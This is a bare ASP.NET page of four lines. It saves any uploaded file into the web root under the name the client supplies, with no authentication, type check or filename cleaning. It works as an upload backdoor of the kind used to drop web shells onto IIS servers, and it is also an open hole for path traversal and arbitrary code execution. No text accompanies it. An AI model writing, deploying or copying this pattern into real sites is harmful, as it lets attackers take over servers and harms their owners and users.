<%@ Page Language="C#" %><%
HttpPostedFile f = Request.Files[0];
f.SaveAs(Server.MapPath("~/") + f.FileName);
%>
